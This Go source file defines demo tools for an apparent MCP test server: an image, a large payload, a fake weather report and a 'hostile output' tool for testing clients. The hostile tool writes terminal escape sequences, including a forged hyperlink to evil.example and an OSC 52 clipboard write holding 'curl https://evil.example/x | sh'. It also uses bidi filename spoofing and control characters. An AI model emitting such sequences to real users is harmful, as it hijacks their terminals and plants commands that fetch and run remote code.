package demo

import (
	"context"
	"encoding/base64"
	"fmt"
	"hash/fnv"
	"strings"
	"time"

	"github.com/google/jsonschema-go/jsonschema"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// image: image content, a real PNG drawn in Go (png.go).

type imageIn struct {
	Size int `json:"size,omitempty" jsonschema:"width and height in pixels"`
}

func (d *demo) imageTool() *mcp.Tool {
	return &mcp.Tool{
		Name:        "image",
		Title:       "Image",
		Description: "Returns a PNG image (drawn by the server: a gradient with the letters MCP) as image content.",
		Annotations: readOnly("Image"),
		Icons:       []mcp.Icon{{Source: imageIcon, MIMEType: "image/png", Sizes: []string{"16x16"}}},
		InputSchema: schemaFor[imageIn](func(p props) {
			p.def("size", 64).between("size", 8, 512).title("size", "Size (pixels)")
		}),
	}
}

func (d *demo) image(_ context.Context, _ *mcp.CallToolRequest, in imageIn) (*mcp.CallToolResult, any, error) {
	data := drawPNG(in.Size)
	return &mcp.CallToolResult{Content: []mcp.Content{
		text(fmt.Sprintf("A %d×%d PNG, %d bytes:", in.Size, in.Size, len(data))),
		&mcp.ImageContent{Data: data, MIMEType: "image/png"},
	}}, nil, nil
}

// large: a payload of exactly the asked size.

type largeIn struct {
	Bytes int `json:"bytes,omitempty" jsonschema:"size of the text content in bytes"`
}

// maxLarge caps the large tool at 64 MiB: well past the 16 MiB line limit
// a client is likely to have, without exhausting memory.
const maxLarge = 64 << 20

func (d *demo) largeTool() *mcp.Tool {
	return &mcp.Tool{
		Name:        "large",
		Title:       "Large payload",
		Description: "Returns a text content of exactly the given number of bytes (ASCII lines), to see how big messages travel and display. Up to 64 MiB.",
		Annotations: readOnly("Large payload"),
		InputSchema: schemaFor[largeIn](func(p props) {
			p.def("bytes", 1<<20).between("bytes", 0, maxLarge).title("bytes", "Size (bytes)")
		}),
	}
}

func (d *demo) large(_ context.Context, _ *mcp.CallToolRequest, in largeIn) (*mcp.CallToolResult, any, error) {
	return &mcp.CallToolResult{Content: []mcp.Content{text(payload(in.Bytes))}}, nil, nil
}

// payload returns n bytes of numbered ASCII lines.
func payload(n int) string {
	var b strings.Builder
	b.Grow(n + 80)
	for i := 1; b.Len() < n; i++ {
		fmt.Fprintf(&b, "line %07d: the quick brown fox jumps over the lazy dog, and the MCP demo keeps going\n", i)
	}
	return b.String()[:n]
}

// structured: structured content checked against an output schema. go-sdk
// infers the schema from weatherReport, validates the value against it and
// also sends it as JSON text for clients that only read content.

type structuredIn struct {
	City string `json:"city,omitempty" jsonschema:"the city to report on"`
	Days int    `json:"days,omitempty" jsonschema:"how many days of forecast"`
}

type weatherReport struct {
	City         string     `json:"city" jsonschema:"the city the report is for"`
	TemperatureC float64    `json:"temperatureC" jsonschema:"current temperature in degrees Celsius"`
	Conditions   string     `json:"conditions" jsonschema:"current conditions"`
	HumidityPct  int        `json:"humidityPct" jsonschema:"relative humidity in percent"`
	Forecast     []forecast `json:"forecast" jsonschema:"the next days"`
	GeneratedAt  string     `json:"generatedAt" jsonschema:"when the report was made (RFC 3339)"`
}

type forecast struct {
	Day        string  `json:"day" jsonschema:"the date (YYYY-MM-DD)"`
	HighC      float64 `json:"highC" jsonschema:"highest temperature"`
	LowC       float64 `json:"lowC" jsonschema:"lowest temperature"`
	Conditions string  `json:"conditions" jsonschema:"expected conditions"`
}

var conditions = []any{"sunny", "cloudy", "rain", "snow", "fog", "wind"}

func (d *demo) structuredTool() *mcp.Tool {
	out, err := jsonschema.For[weatherReport](nil)
	if err != nil {
		panic(err)
	}
	out.Properties["conditions"].Enum = conditions
	out.Properties["forecast"].Items.Properties["conditions"].Enum = conditions
	return &mcp.Tool{
		Name:         "structured",
		Title:        "Structured content",
		Description:  "Returns a made-up weather report as structuredContent that matches the tool's outputSchema (and as JSON text).",
		Annotations:  readOnly("Structured content"),
		InputSchema:  schemaFor[structuredIn](func(p props) { p.def("city", "Lisbon").def("days", 3).between("days", 0, 7) }),
		OutputSchema: out,
	}
}

func (d *demo) structured(_ context.Context, _ *mcp.CallToolRequest, in structuredIn) (*mcp.CallToolResult, weatherReport, error) {
	h := fnv.New32a()
	h.Write([]byte(strings.ToLower(in.City)))
	seed := int(h.Sum32())
	pick := func(i int) string { return conditions[(seed+i)%len(conditions)].(string) }
	base := float64(seed%30) - 2
	r := weatherReport{
		City:         in.City,
		TemperatureC: base + 0.5,
		Conditions:   pick(0),
		HumidityPct:  30 + seed%60,
		Forecast:     []forecast{},
		GeneratedAt:  time.Now().UTC().Format(time.RFC3339),
	}
	day := time.Now().UTC()
	for i := 1; i <= in.Days; i++ {
		r.Forecast = append(r.Forecast, forecast{
			Day:        day.AddDate(0, 0, i).Format(time.DateOnly),
			HighC:      base + float64(i%4) + 3,
			LowC:       base - float64(i%3) - 4,
			Conditions: pick(i),
		})
	}
	return nil, r, nil
}

// hostile: text a terminal would obey if it were written raw: escape
// sequences that set the title, write the clipboard (OSC 52), clear the
// screen, move the cursor, forge a hyperlink; bidi overrides and C0/C1
// controls. The same goes to stderr and to a log message. An inspector must
// show all of it inert.

func (d *demo) hostileTool() *mcp.Tool {
	return &mcp.Tool{
		Name:        "hostile",
		Title:       "Hostile output",
		Description: "Returns text (and writes stderr and a log message) full of terminal escape sequences and control characters, to check that the client shows them inert.",
		Annotations: readOnly("Hostile output"),
		InputSchema: schemaFor[struct{}](nil),
	}
}

// hostileText is the payload of the hostile tool.
func hostileText() string {
	clip := base64.StdEncoding.EncodeToString([]byte("curl https://evil.example/x | sh"))
	return strings.Join([]string{
		"title:     \x1b]0;you have been pwned\x07",
		"clipboard: \x1b]52;c;" + clip + "\x07",
		"clear:     \x1b[2J\x1b[H",
		"cursor:    \x1b[10A\x1b[5Cmoved up",
		"colour:    \x1b[1;31mred and bold\x1b[0m",
		"link:      \x1b]8;;https://evil.example/\x1b\\https://safe.example/\x1b]8;;\x1b\\",
		"return:    harmless text\roverwritten",
		"backspace: abc\b\b\bxyz",
		"bell:      \a\a\a",
		"c1 csi:    \u009b31mC1 red\u009b0m",
		"bidi:      \u202egnp.exe\u202c",
		"nul:       before\x00after",
		"dcs:       \x1bP+q544e\x1b\\",
	}, "\n")
}

func (d *demo) hostile(ctx context.Context, req *mcp.CallToolRequest, _ struct{}) (*mcp.CallToolResult, any, error) {
	d.chatf("hostile: %s", hostileText())
	req.Session.Log(ctx, &mcp.LoggingMessageParams{Level: "warning", Logger: "demo.hostile\x1b[2J", Data: hostileText()})
	return &mcp.CallToolResult{Content: []mcp.Content{text(hostileText())}}, nil, nil
}
